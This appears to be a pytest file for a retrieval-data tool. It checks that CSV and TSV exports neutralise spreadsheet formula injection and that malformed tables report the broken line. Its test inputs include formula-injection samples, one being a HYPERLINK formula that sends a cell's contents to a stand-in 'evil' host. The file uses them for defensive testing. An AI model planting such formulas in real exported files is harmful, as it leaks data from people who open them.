"""Tables that people open: no cell is a formula, and what is read is what was written."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

import negatives as neg
from negatives.errors import DataError
from negatives.measure.review import draw_sample, read_review
from negatives.read.table import ids_of, read_table, write_table
from tests.cli.commands import negatives
from tests.each import for_each

TEXTS = [
    '=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1",
    "''=1", "'quoted'", "plain", "a=b", " =1", "", "it's",
]  # fmt: skip


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_no_cell_is_run_and_every_text_comes_back(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"table.{ending}"
    table = pl.DataFrame({"query_id": TEXTS, "value": [-1.5] * len(TEXTS)})
    write_table(table, path)
    with path.open(newline="") as file:
        rows = list(csv.reader(file, delimiter="\t" if ending == "tsv" else ","))
    assert not [row for row in rows[1:] if row[0][:1] in tuple("=+-@\t\r\n＝＋－＠")]
    assert [row[1] for row in rows[1:]] == ["-1.5"] * len(TEXTS), "numbers stay numbers"
    assert read_table(path)["query_id"].fill_null("").to_list() == TEXTS


def test_a_sample_with_formulas_is_judged_as_what_it_is(tmp_path: Path) -> None:
    (tmp_path / "data" / "qrels").mkdir(parents=True)
    documents = [f"{text}wing lift {row}" for row, text in enumerate(TEXTS)]
    corpus = pl.DataFrame({"_id": [f"=d{row}" for row in range(len(TEXTS))], "text": documents})
    corpus.write_ndjson(tmp_path / "data" / "corpus.jsonl")
    pl.DataFrame({"_id": ["-q", "@q"], "text": ["=wing", "+lift"]}).write_ndjson(
        tmp_path / "data" / "queries.jsonl"
    )
    (tmp_path / "data" / "qrels" / "test.tsv").write_text(
        "query-id\tcorpus-id\tscore\n-q\t=d0\t1\n@q\t=d1\t1\n"
    )
    out, sample = tmp_path / "run", tmp_path / "sample.csv"
    made = neg.mine(
        neg.Collection.load(tmp_path / "data"), out, sources=[neg.BM25(top=9)], pick=neg.Top()
    )
    written = draw_sample(made, 100, sample)
    table = read_table(sample)
    assert set(table["document"]) <= set(made.collection.corpus["text"])
    with sample.open(newline="") as file:
        judged = [[*row[:4], "1", *row[5:]] for row in csv.reader(file)][1:]
    with sample.open("a", newline="") as file:  # as a person fills it in, whose rows come last
        file.truncate(0)
        csv.writer(file).writerows([table.columns, *judged])
    review = read_review(sample, made)
    assert (review.judged, review.relevant, review.elsewhere) == (written, written, 0)
    values = tmp_path / "values.csv"
    told = negatives("evaluate", "bm25", tmp_path / "data", "--per-query", values)
    assert told.returncode == 0, told.stderr
    assert sorted(set(read_table(values)["query_id"])) == ["-q", "@q"]
    assert "'-q" in values.read_text()


@for_each(
    ("name", "content", "says"),
    [
        ("a.csv", "", "the table is empty"),
        ("a.jsonl", "\n\n", "the table is empty"),
        ("a.csv", "id,id\n1,2\n", "column 'id' comes twice"),
        ("a.csv", "id,name\n1,2\n1,2,3\n", "line 3: 3 columns, where the first line has 2"),
        ("a.csv", 'id,name\n1,"2\n', "quotation marks that do not match"),
        ("a.jsonl", '{"id": 1}\n{"id": 2\n', "line 2: Expecting ',' delimiter"),
        ("a.jsonl", '{"id": 1, "id": 2}\n', "line 1: 'id' comes twice"),
        ("a.jsonl", '{"id": "a"}\n{"id": "b"}\n{"id": ["c"]}\n', "'id' is \"a\", unlike"),
        ("a.jsonl", '{"id": "a"}\n{"id": "b"}\n{"id": true}\n', "line 3: 'id' is true, unlike"),
        ("a.jsonl", '[{"id": "a"}]\n', "expected an object"),
    ],
)
def test_a_table_that_is_broken_says_in_which_line(
    name: str, content: str, says: str, tmp_path: Path
) -> None:
    (tmp_path / name).write_text(content)
    with pytest.raises(DataError) as caught:
        read_table(tmp_path / name)
    assert says in str(caught.value)
    assert str(tmp_path / name) in str(caught.value)


@for_each("values", [[1.5, 2.0], [True, False], [["a"], ["b"]], [{"a": 1}, {"a": 2}]])
def test_what_is_no_id_never_becomes_one(values: list[object]) -> None:
    with pytest.raises(DataError, match=r"column 'id' holds .*, and no ids"):
        ids_of(pl.DataFrame({"id": values}), "id", "a.parquet")


def test_ids_may_be_numbers_or_texts_or_both(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_text('{"id": 7}\n{"id": "b"}\n{"id": null}\n')
    assert ids_of(read_table(tmp_path / "a.jsonl"), "id", "").to_list() == ["7", "b", None]
    assert ids_of(pl.DataFrame({"id": [7]}), "id", "").to_list() == ["7"]
